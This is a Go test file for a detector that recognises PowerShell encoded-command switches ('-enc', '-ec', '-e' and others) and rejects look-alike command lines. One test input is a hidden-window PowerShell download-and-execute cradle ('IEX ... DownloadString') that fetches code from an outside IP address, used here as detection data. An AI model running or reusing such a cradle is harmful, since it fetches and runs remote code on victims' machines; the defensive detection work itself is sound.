package findings

import (
	"encoding/base64"
	"encoding/binary"
	"testing"
	"unicode/utf16"
)

// TestEncodedCommand knows the switch in all its forms by what follows it, and takes no
// other switch for it.
func TestEncodedCommand(t *testing.T) {
	encode := func(s string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = binary.LittleEndian.AppendUint16(b, u)
		}
		return base64.StdEncoding.EncodeToString(b)
	}
	for _, text := range []string{
		"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.20/a')",
		"zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz", "Get-Process | Out-File C:\\Temp\\p.txt -Encoding UTF8",
	} {
		for _, form := range []string{"-EncodedCommand ", "-enc ", "-ec ", "-e ", "-E '"} {
			if line := "powershell.exe -nop -w hidden " + form + encode(text); !encodedCommand(squeeze(line)) {
				t.Errorf("not known: %s", line)
			}
		}
	}
	for _, line := range []string{
		"powershell -ExecutionPolicy Unrestricted /NoProfile /NonInteractive /File C:\\x.ps1",
		"powershell Get-Item x -ErrorAction SilentlyContinue\nConvertFrom something or other here",
		"powershell Set-Content x -Encoding UTF8\nthe words of a text that goes on and on for long",
		"powershell -enc " + encode("short"),
		"tool.exe -e " + encode("without the shell a switch that any program may have"),
	} {
		if encodedCommand(squeeze(line)) {
			t.Errorf("taken for an encoded command: %s", line)
		}
	}
}
